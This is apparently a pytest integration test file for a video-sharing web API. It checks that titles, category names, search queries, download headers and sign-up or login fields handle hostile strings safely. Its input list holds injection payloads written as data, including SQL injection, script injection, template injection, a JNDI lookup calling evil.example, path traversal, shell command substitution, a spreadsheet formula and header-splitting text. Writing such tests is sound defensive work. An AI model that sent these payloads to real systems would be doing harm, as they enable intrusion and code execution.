"""Texts that other programs would take for code or trip over are kept, and given back, as they are."""

from urllib.parse import quote

import pytest

from tests.integration.http.api import Api, Member, Reply, check_error
from tests.integration.http.forms import file_part, form, part, post_form

TEXTS = [
    "'; DROP TABLE users; --",
    "' OR '1'='1' /*",
    "Robert\\'); DELETE FROM videos WHERE (1=1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt; &amp; &#0; &nbsp;",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "%s %n %x {0} {title!r}",
    "../../etc/passwd",
    "C:\\Windows\\System32",
    "$(reboot) `reboot` | reboot & reboot; reboot",
    "=cmd|' /C calc'!A0",
    "a\r\nSet-Cookie: evil=yes\r\n\r\n<html>",
    'filename="x.exe"; "',
    "null",
    "\u202egnp.exe\u202c",
    "\ufeffBOM and \u200bnothing\u200b",
    "e\u0301 is not \u00e9, \ufb01 is not fi",
    "\u0130stanbul, stra\u00dfe, \u03a3\u03c2, \u01c6",
    "\U0001d573\U0001d58a \U0001f469\u200d\U0001f469\u200d\U0001f467 \U0010ffff \uffff",
    "\x01\x1b[31m\x7f\x80 control",
    "%00 %0a \\u0000 \\x00",
    "Z\u0351\u036b\u0343a\u0349lgo" * 8,
]


def in_full(reply: Reply) -> None:
    assert reply.status in {200, 201}, reply


@pytest.mark.parametrize("text", TEXTS)
async def test_a_text_comes_back_as_it_was_sent(
    api: Api, admin: Member, member: Member, text: str
) -> None:
    users = dict(api.tables.users)

    made = await api.call("POST", "/api/categories", admin, json={"name": text[:80].strip()})
    uploaded = await post_form(
        api, member, form(part("title", text), part("description", text), file_part())
    )
    path = uploaded.headers["Location"]
    before = await api.call("GET", path, member)
    edited = await api.call(
        "PATCH", path, member, json={"title": f"{text}!", "description": f"{text}?"}
    )
    after = await api.call("GET", path, admin)
    found = await api.call("GET", f"/api/videos?q={quote(text)}", member)

    in_full(made)
    [category] = (await api.call("GET", "/api/categories", member)).json["items"]
    assert category["name"] == text[:80].strip()
    assert category["slug"].isascii()
    for reply in (before, edited, after, found):
        in_full(reply)
    assert (before.json["title"], before.json["description"]) == (text, text)
    assert (after.json["title"], after.json["description"]) == (f"{text}!", f"{text}?")
    assert [video["id"] for video in found.json["items"]] == [after.json["id"]]
    assert api.tables.users.keys() == users.keys()


@pytest.mark.parametrize("text", TEXTS)
async def test_a_title_breaks_no_header_of_the_file(api: Api, member: Member, text: str) -> None:
    video = await api.add_completed(member, title=text)

    reply = await api.call("GET", f"/api/videos/{video.id}/stream?download=1", member)

    in_full(reply)
    assert reply.content == b"an mp4"
    assert "Set-Cookie" not in reply.headers
    name = quote(f"{text}.mp4", safe="")
    assert reply.headers["Content-Disposition"] == f"attachment; filename*=UTF-8''{name}"


@pytest.mark.parametrize("text", TEXTS)
async def test_a_text_that_is_no_name_is_refused_and_logs_nobody_in(
    api: Api, admin: Member, text: str
) -> None:
    _, token = await api.add_invitation()
    before = api.tables.copy()
    secret = "long enough"

    registered = await api.call(
        "POST",
        "/api/auth/register",
        json={"token": token, "username": f"{text} ", "password": secret},
    )
    logged_in = await api.call("POST", "/api/auth/login", json={"username": text, "password": text})
    listed = await api.call("GET", f"/api/users?q={quote(text)}", admin)

    check_error(registered, 422, "validation_error")
    check_error(logged_in, 401, "invalid_credentials")
    assert listed.json["total"] == 0
    assert (api.tables.users, api.tables.invitations) == (before.users, before.invitations)
